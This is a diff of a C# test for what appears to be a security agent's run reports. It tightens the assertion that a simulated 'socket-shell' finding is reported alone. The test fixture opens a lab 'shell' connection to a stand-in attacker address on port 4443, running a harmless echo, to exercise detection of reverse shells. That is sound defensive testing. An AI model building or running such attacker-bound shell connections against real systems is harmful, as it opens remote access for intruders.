@@ -1,5 +1,6 @@
 using System.Text.Json;
 using Sallyport.Lab;
+using Sallyport.Lab.Reports;
 
 namespace Sallyport.Agent.Tests.Runs;
 
@@ -47,9 +48,9 @@ public sealed class ExitCodeTests(LabFixture fixture) : RunTest(fixture)
             LabNetwork.Program("shell"), "connect", LabAddresses.Attacker, "4443", "/bin/echo", "x");
         Assert.True(outcome.ExitCode == expected, outcome.ToString());
 
-        // A machine that keeps the agent from running for seconds is found as well.
-        var found = Report().GetProperty("findings").EnumerateArray().Select(finding => finding.GetProperty("id").GetString());
-        Assert.Equal(["socket-shell"], found.Where(id => id != "observation-lost"));
+        var found = Report().GetProperty("findings").EnumerateArray().Where(finding => !Stall.Is(
+            finding.GetProperty("id").GetString(), name => finding.GetProperty("evidence").TryGetProperty(name, out _)));
+        Assert.Equal("socket-shell", Assert.Single(found).GetProperty("id").GetString());
     }
 
     /// <summary>HARDENING rule 8: what the proxy is asked for would not be judged.</summary>
